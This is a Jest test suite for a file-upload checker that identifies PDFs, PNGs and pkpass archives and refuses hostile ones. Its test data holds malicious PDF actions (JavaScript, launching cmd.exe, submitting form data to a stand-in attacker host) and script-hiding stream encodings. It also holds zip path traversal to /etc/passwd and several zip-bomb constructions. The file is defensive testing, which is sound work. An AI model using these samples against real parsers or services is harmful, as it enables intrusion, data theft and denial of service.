import { join } from "node:path";
import { deflateRawSync, deflateSync } from "node:zlib";
import { describe, expect, it } from "@jest/globals";
import { type Packed, passFiles, pdf, pdfOfPacked, png, zip } from "../../testing/files.ts";
import { checkContent, MAX_FILE_BYTES } from "./check-content.ts";
import { checkFile } from "./check-file.ts";

/** More than it takes on a machine that is busy. */
const LIMITS = { verdictMs: 20_000, barcodesMs: 20_000 };
const hostile = (name: string) => join(import.meta.dirname, `../../testing/hostile/${name}.ts`);
const pass = (...more: Packed[]) => zip([...passFiles(), ...more]);
const file = (name: string, content = Buffer.from("x")): Packed => ({ name, content });
/** A PDF that packs a script with other objects, in a stream that is written in an unusual way. */
const hiding = (way: { type?: string; more?: string; keyword?: string }, filter?: string) =>
  pdfOfPacked(deflateSync("1 0 << /S /JavaScript >>"), filter, way);
/** A PDF as large as one may be, of the same over and over again. */
const filledWith = (unit: Buffer, end = "") => {
  const [first, last] = [Buffer.from("%PDF-1.7\n"), Buffer.from(`${end}\n%%EOF\n`)];
  const units = Math.floor((MAX_FILE_BYTES - first.length - last.length) / unit.length);
  return Buffer.concat([first, Buffer.alloc(units * unit.length, unit), last]);
};

describe("a file's content", () => {
  it("tells what it is, whatever it is called", () => {
    expect(checkContent(pdf())).toEqual({ type: "application/pdf" });
    // A picture in it may have any bytes.
    expect(checkContent(pdf(">> stream /JS\u00ff/XFA\u00ff endstream <<"))).toEqual({
      type: "application/pdf",
    });
    const packed = pdfOfPacked(deflateSync("1 0 2 18 << /Type /Catalog >> << /Type /Page >>"));
    expect(checkContent(packed)).toEqual({ type: "application/pdf" });
    expect(checkContent(png())).toEqual({ type: "image/png" });
    expect(checkContent(pass())).toEqual({ type: "application/vnd.apple.pkpass" });
    expect(checkContent(zip(passFiles().map((each) => ({ ...each, method: 0 }))))).toEqual({
      type: "application/vnd.apple.pkpass",
    });
  });

  const page = Buffer.from("<script>alert(1)</script>");
  it.each<[string, Buffer]>([
    ["nothing", Buffer.alloc(0)],
    ["a page", page],
    ["a program", Buffer.from("\x7fELF")],
    ["a picture with a page behind it", Buffer.concat([png(), page])],
    ["a picture that is cut short", png().subarray(0, 60)],
    ["a picture of a million by a million", png(1_000_000, 1_000_000)],
    ["a PDF that is cut short", pdf().subarray(0, 60)],
    ["a PDF that runs a script", pdf("/OpenAction << /S /JavaScript /JS (app.alert) >>")],
    ["a PDF that runs a script under a written-out name", pdf("/AA << /S /J#61vaScript >>")],
    ["a PDF that starts a program", pdf("/S /Launch /F (cmd.exe)")],
    ["a PDF that is a form with a program", pdf("/AcroForm << /XFA 5 0 R >>")],
    ["a PDF with a file in it", pdf("/Type /EmbeddedFile")],
    ["a PDF that packs a script with other objects", pdfOfPacked(deflateSync("1 0 << /S /JavaScript >>"))],
    ["the same, packed twice", pdfOfPacked(deflateSync(deflateSync("/JS")), "[ /FlateDecode /Fl ]")],
    ["the same, written in another way", pdfOfPacked(Buffer.from("2f4a53>"), "/ASCIIHexDecode")],
    ["the same, under a written-out name", pdfOfPacked(deflateSync("/S /J#61vaScript"), "/Flate#44ecode")],
    ["a PDF whose objects nobody can unpack", pdfOfPacked(Buffer.from("encrypted"))],
    ["a PDF that unfolds to too much", pdfOfPacked(deflateSync(Buffer.alloc(40 * 2 ** 20)))],
    ["a PDF that leads to another", pdf("/S /GoToR /F (other.pdf)")],
    ["a PDF that leads to one within it", pdf("/S /GoToE /T << /R /C >>")],
    ["a PDF that sends what is filled in", pdf("/S /SubmitForm /F (https://attacker.example)")],
    ["a PDF that reads a form", pdf("/S /ImportData /F (form.fdf)")],
    ["a PDF that is encrypted", pdf(">> endobj trailer << /Encrypt 5 0 R")],
    ["a PDF that hides a script behind a word in a text", hiding({ more: "/X (obj)" })],
    ["the same, behind another word", hiding({ more: "/X (stream\n)" })],
    ["the same, in a stream without a type", hiding({ type: "" })],
    ["the same, in a stream with a short word for its filter", hiding({ type: "", more: "/F /Fl" }, "")],
    ["the same, in a stream that begins after a space", hiding({ keyword: "stream \n" })],
    ["the same, in a stream that begins after a remark", hiding({ keyword: "stream%\n" })],
    ["the same, in a stream that begins on an old Mac", hiding({ keyword: "stream\r" })],
    ["the same, in a stream that is not found", hiding({ keyword: "streams\n" })],
    ["a PDF of too many objects that are packed alone", filledWith(pdfOfPacked(deflateSync("1 0 << >>")))],
    ["a PDF behind a page", Buffer.concat([page, pdf()])],
    ["an archive that is no pass", zip([file("a.txt")])],
    ["a pass with another pass.json", zip([file("pass.json"), ...passFiles().slice(1)])],
    ["a pass behind a page", Buffer.concat([page, pass()])],
    ["a pass with a page behind it", Buffer.concat([pass(), page])],
    ["a pass with a comment", zip(passFiles(), { comment: "a comment" })],
    ["a pass with something between its parts", zip(passFiles(), { gap: page })],
    ["a pass with a file twice", pass(file("pass.json"))],
    ["a pass with a way out of its folder", pass(file("../../etc/passwd"))],
    ["a pass with a name from the root", pass(file("/etc/passwd"))],
    ["a pass with a name that hides", pass(file("pass.json\u0000.png"))],
    ["a pass with a locked file", pass({ ...file("a"), flags: 1 })],
    ["a pass with a file that has two names", pass({ ...file("aa"), localName: "bb" })],
    ["a pass with a file of unknown packing", pass({ ...file("a"), method: 12 })],
    ["a pass of 101 files", pass(...Array.from({ length: 97 }, (_, n) => file(`f${n}`)))],
    ["a bomb: 30 MiB of nothing", pass(file("a", Buffer.alloc(30 * 2 ** 20)))],
    [
      "a bomb of many files",
      pass(...Array.from({ length: 40 }, (_, n) => file(`f${n}`, Buffer.alloc(2 ** 20)))),
    ],
    ["a bomb that claims to be small", pass({ ...file("a", Buffer.alloc(30 * 2 ** 20)), size: 100 })],
    ["more than 10 MiB", Buffer.concat([pdf(), Buffer.alloc(MAX_FILE_BYTES, " "), Buffer.from("%%EOF")])],
  ])("%s is refused", (_, bytes) => {
    expect(checkContent(bytes)).toEqual({ refused: expect.any(String) });
  });

  it("is never more than refused, whichever of its bytes is another or missing", () => {
    for (const whole of [pdf(), png(), pass()]) {
      for (let at = 0; at < whole.length; at++) {
        const changed = Buffer.from(whole);
        changed.writeUInt8(changed.readUInt8(at) ^ 0xff, at);
        for (const bytes of [changed, whole.subarray(0, at), whole.subarray(at)]) {
          expect(Object.keys(checkContent(bytes))).toHaveLength(1);
        }
      }
    }
  });

  it("unfolds to no more than it may, also where one file is listed again and again", () => {
    // The files overlap (a bomb after David Fifield's): one kernel, named by many entries.
    const kernel = deflateRawSync(Buffer.alloc(2 ** 20));
    expect(kernel.length).toBeLessThan(2 ** 12);
    const bytes = pass(file("a", Buffer.alloc(2 ** 20)), file("b", Buffer.alloc(2 ** 20)));
    // The last entry names the data of the one before.
    const end = bytes.length - 22;
    const lastEntry = end - (46 + 1);
    const before = lastEntry - (46 + 1);
    bytes.writeUInt32LE(bytes.readUInt32LE(before + 42), lastEntry + 42);
    expect(checkContent(bytes)).toEqual({ refused: "its files do not follow one another" });
  });
});

describe("a file is looked at in a process of its own", () => {
  it("that says what it is", async () => {
    expect(await checkFile(png(), LIMITS)).toEqual({ type: "image/png", barcodes: [] });
    expect(await checkFile(Buffer.from("x"), LIMITS)).toEqual({
      refused: expect.stringContaining("neither"),
    });
    expect(await checkFile(Buffer.alloc(12 * 2 ** 20), LIMITS)).toEqual({ refused: "it is too large" });
  });

  const empty = Buffer.concat([Buffer.from("obj /ObjStm /Filter /FlateDecode stream\n"), deflateSync("")]);
  it.each<[string, Buffer]>([
    ["streams", filledWith(Buffer.from("stream\n"))],
    ["streams of objects that end together", filledWith(empty, "\nendstream")],
    [
      "streams of objects on one line",
      filledWith(Buffer.from("obj /ObjStm /Filter /Fl stream "), "\nendstream"),
    ],
  ])(
    "that is not kept busy by many %s",
    async (_, bytes) => {
      expect(await checkFile(bytes, LIMITS)).toEqual({ refused: "a part of it cannot be looked at" });
    },
    30_000,
  );

  it.each(["reads", "writes", "spawns", "hoards", "babbles"])(
    "that %s when a file has taken it over: the file is refused",
    async (name) => {
      expect(await checkFile(png(), LIMITS, hostile(name))).toEqual({ refused: "it could not be looked at" });
    },
  );

  it("that never ends when a file has taken it over: it is killed in time, and nothing is known of the file", async () => {
    await expect(checkFile(png(), { ...LIMITS, verdictMs: 500 }, hostile("spins"))).rejects.toThrow(
      "was killed",
    );
  });

  it("that is killed once the file was found good: then it has no barcode that could be read", async () => {
    const [type, barcodes] = ["image/png", []];
    expect(await checkFile(png(), LIMITS, hostile("dies"))).toEqual({ type, barcodes });
  });

  it("that takes too long to read its barcodes: the same", async () => {
    const found = await checkFile(png(), { ...LIMITS, barcodesMs: 500 }, hostile("lingers"));
    expect(found).toEqual({ type: "image/png", barcodes: [] });
  });

  it("that knows nothing of the environment of the service", async () => {
    expect(await checkFile(png(), LIMITS, hostile("leaks"))).toEqual({ refused: "" });
  });
});
